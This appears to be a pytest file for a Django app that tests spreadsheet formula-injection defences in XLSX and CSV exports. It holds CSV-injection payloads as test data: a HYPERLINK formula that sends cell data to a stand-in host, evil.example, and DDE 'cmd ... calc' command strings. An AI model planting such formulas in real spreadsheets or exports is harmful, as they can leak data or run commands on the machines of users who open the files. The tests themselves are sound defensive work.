"""Exports stay data: a typed text that looks like a spreadsheet formula is never a live formula, in the
staff XLSX export (every text cell a string cell) or in the public open-data CSV (OWASP neutralising)."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from core.inert import CSV_TRIGGERS, inert_csv_cell
from reports.models import Evidence, EvidenceKind

from .factories import DivisionFactory, MeasureFactory, MeasureStepFactory, OrganisationFactory, ProgressEntryFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# One payload per trigger character; each field gets its own so a swapped column would show.
PAYLOADS = {
    "title": HYPERLINK,
    "guideline": "+cmd|' /C calc'!A0",
    "weakness": "-2+3+cmd|' /C calc'!A0",
    "group_heading": "@SUM(1+1)*cmd|' /C calc'!A0",
    "responsible_text": "\t=1+1",
    "timeline_text": "\r=1+1",
    "monitoring": "=1+1",
}


def _xlsx(client, user, org, fiscal_year=2568) -> bytes:
    client.force_login(user)
    response = client.get(reverse("reports:xlsx", args=[org.slug, fiscal_year]))
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_every_text_cell_of_the_xlsx_export_is_a_string_with_the_typed_text(client, staff_a, org_a):
    division = DivisionFactory(organisation=org_a, name="=HYPERLINK(\"http://evil.example\")", order=9)
    measure = MeasureFactory(organisation=org_a, fiscal_year=2568, **PAYLOADS)
    measure.divisions.add(division)
    MeasureStepFactory(measure=measure, text="=1+2", label="@A1")
    entry = ProgressEntryFactory(document__organisation=org_a, measure=measure, output="=cmd|' /C calc'!A0",
                                 outcome="+1", status_reason="-1")
    Evidence.objects.create(entry=entry, kind=EvidenceKind.LINK, url="=HYPERLINK(\"http://evil.example\")")

    content = _xlsx(client, staff_a, org_a)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)

    wb = openpyxl.load_workbook(io.BytesIO(content))
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                seen.append(cell.value)
    # the typed texts come back exactly as typed (the export is re-importable), as text
    for value in [*PAYLOADS.values(), division.name, "=1+2", "@A1", "=cmd|' /C calc'!A0", "+1", "-1",
                  "=HYPERLINK(\"http://evil.example\")"]:
        assert value in seen, value


@pytest.mark.django_db
def test_open_data_csv_neutralises_cells_that_start_a_formula(client):
    OrganisationFactory(slug="evil-org", name="=HYPERLINK(\"http://evil.example\")", district=HYPERLINK,
                        province="+1+1", website="")
    response = client.get(reverse("public:opendata_organisations"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == "evil-org")
    assert row[1] == "'=HYPERLINK(\"http://evil.example\")"
    assert row[4] == "'" + HYPERLINK and row[5] == "'+1+1"
    for r in rows:
        for value in r:
            assert not value.startswith(CSV_TRIGGERS), value


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_each_trigger_is_neutralised_and_plain_text_is_kept(value):
    assert inert_csv_cell(value) == "'" + value
    assert inert_csv_cell("เทศบาลตำบล=ก") == "เทศบาลตำบล=ก"
    assert inert_csv_cell(12.5) == 12.5
